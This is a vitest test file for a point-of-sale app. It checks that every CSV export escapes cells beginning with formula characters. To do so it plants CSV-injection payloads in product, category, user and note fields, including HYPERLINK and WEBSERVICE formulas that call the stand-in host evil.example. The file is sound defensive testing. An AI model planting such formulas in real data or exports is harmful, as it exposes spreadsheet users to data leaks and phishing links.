import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storeToday } from '../../src/lib/sales-range';
import { createCategory, createProduct, postSale, saleBody, startShift } from '../../src/modules/pos/pos-test-support';
import { buildTestApp, createUser, inject, signIn, type TestApp } from '../build-test-app';

/**
 * Issue #8 part 2: CSV cells beginning with =, +, -, @ (and tab / carriage return) are escaped in
 * every CSV export. The exports are found among the registered routes (any GET whose path says
 * csv or export), so an export added later is checked too. The data written beforehand puts a
 * formula in every kind of text a user controls: product, SKU, description, category, size,
 * cashier name, notes.
 */
let t: TestApp;
let admin: string;
/** Ids an export with a path parameter is tried with (the two shifts that hold the sales). */
const shiftIds: string[] = [];

const EVIL = ['=HYPERLINK("http://evil.example","x")', '+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\r=1+1'];

beforeAll(async () => {
  t = await buildTestApp();
  await createUser(t, { role: 'super_admin', pin: '7391', firstName: '=Admin', lastName: '@Evil' });
  admin = await signIn(t, '7391', '10.12.0.1');
  await createUser(t, { role: 'cashier', pin: '2915', firstName: '+Casey', lastName: '-Till' });
  const cashier = await signIn(t, '2915', '10.12.0.2');
  const category = await createCategory(t, '=cat()');
  const products: string[] = [];
  for (const [i, text] of EVIL.entries()) {
    products.push(await createProduct(t, { name: `${text} ${i}`, price: '1.00', stock: 100, categoryId: category }));
  }
  await t.db.execute(`update products set sku = '=SKU' || substr(id::text, 1, 8), description = '@desc'`);
  // Departments (one table for both screens since issue #33, ADR 0027), for the exports other
  // modules add (best effort: a table that is not there yet is skipped).
  for (const statement of [
    `insert into proc_departments (code, name, description, building) values ('=DEPT', '=Dept()', '@desc', '+B1')`,
    `insert into proc_departments (code, name) values ('=D1', '@Procurement')`,
    // A stock location: every store now has a selling location (ADR 0025), so the locations export
    // is never empty and must show a planted formula escaped.
    `insert into proc_locations (code, name, building) values ('=LOC1', '@Back room', '+B2')`,
    // An institutional asset of that department, for the analytics export's Inventory section.
    `update products set asset_type = 'tool', location = '+Main-1-1',
       department_id = (select id from proc_departments where name = '=Dept()') where name like '=HYPERLINK%'`,
  ]) {
    await t.db.execute(statement).catch(() => {});
  }
  shiftIds.push(String((await startShift(t, cashier)).id), String((await startShift(t, admin)).id));
  // A registered unit whose history holds a formula (issue #17: the asset history export).
  const unit = await t.db
    .execute(
      `with item as (insert into proc_items (sku, name, is_asset) values ('=ITEM1', '@Drill', true) returning id),
        unit as (insert into proc_assets (item_id, asset_tag, notes) select id, '=TAG1', '+note' from item returning id),
        event as (insert into proc_asset_events (asset_id, kind, summary)
          select id, 'registered', '=HYPERLINK("http://evil.example","x")' from unit returning asset_id)
       select asset_id as id from event`,
    )
    .catch(() => null);
  const unitId = (unit?.rows[0] as { id?: string } | undefined)?.id;
  if (unitId) shiftIds.push(unitId);
  for (const cookie of [cashier, admin]) {
    const sale = await postSale(
      t,
      cookie,
      saleBody(
        products.map((productId) => ({ productId, quantity: 1, unitPrice: '1.00' })),
        'cash',
        { notes: '=WEBSERVICE("http://evil.example")' },
      ),
    );
    expect(sale.statusCode).toBe(201);
  }
});
afterAll(async () => {
  await t.close();
});

/** The CSV text of a response: a text/csv body, or a JSON body carrying `csv`. */
function csvText(response: { headers: Record<string, unknown>; body: string; json: () => unknown }): string | null {
  const type = String(response.headers['content-type'] ?? '');
  if (type.includes('text/csv')) return response.body;
  if (type.includes('application/json')) {
    const json = response.json() as { csv?: unknown };
    if (typeof json?.csv === 'string') return json.csv;
  }
  return null;
}

function exportRoutes() {
  return t.app.routePermissions.filter((r) => r.method === 'GET' && /csv|export/i.test(r.url) && r.url !== '/*');
}

/** The export's answer for the first query (and path id) it accepts: none, today, or the ids of the data. */
async function fetchExport(url: string) {
  const today = storeToday(t.config.storeTimeZone);
  const paths = url.includes(':') ? shiftIds.map((id) => url.replace(/:[A-Za-z]+/g, id)) : [url];
  for (const path of paths) {
    for (const query of ['', `?startDate=${today}&endDate=${today}`, `?from=${today}&to=${today}`]) {
      const response = await inject(t, { method: 'GET', url: `${path}${query}`, cookie: admin });
      if (response.statusCode === 200) return response;
    }
  }
  return null;
}

describe('CSV exports', () => {
  it('the products export and the daily sales CSV are among the exports checked', () => {
    const urls = exportRoutes().map((r) => r.url);
    expect(urls).toContain('/api/products/export.csv');
    expect(urls).toContain('/api/reports/daily.csv');
  });

  it('no cell of any export begins with a formula character; the evil text is there, escaped', async () => {
    for (const route of exportRoutes()) {
      const response = await fetchExport(route.url);
      expect(response, `${route.url} answered no 200 to any query tried`).not.toBeNull();
      const text = csvText(response as NonNullable<typeof response>);
      expect(text, `${route.url} is not CSV`).not.toBeNull();
      const rows = parse(text as string, { relax_column_count: true }) as string[][];
      let escaped = 0;
      for (const row of rows) {
        for (const cell of row) {
          const label = `${route.url}: ${JSON.stringify(cell)}`;
          expect(/^[=+@\t\r]/.test(cell), label).toBe(false);
          if (cell.startsWith('-')) expect(cell, label).toMatch(/^-\d+(\.\d+)?$/);
          if (/^'[=+\-@\t\r]/.test(cell)) escaped += 1;
        }
      }
      if (rows.length > 1) expect(escaped, `${route.url} carried none of the formula texts`).toBeGreaterThan(0);
      else console.warn(`${route.url}: header only, nothing planted reached it`);
    }
  });

  it('in the products export, each planted formula comes back as text behind a quote', async () => {
    const response = await fetchExport('/api/products/export.csv');
    const cells = (parse(response?.body ?? '', { relax_column_count: true }) as string[][]).flat();
    for (const [i, text] of EVIL.entries()) {
      expect(cells, text).toContain(`'${text} ${i}`);
    }
  });

  it('in the daily sales CSV, the cashier names are escaped', async () => {
    const response = await fetchExport('/api/reports/daily.csv');
    const cells = (parse(response?.body ?? '', { relax_column_count: true }) as string[][]).flat();
    expect(cells).toContain("'+Casey -Till");
    expect(cells).toContain("'=Admin @Evil");
  });
});
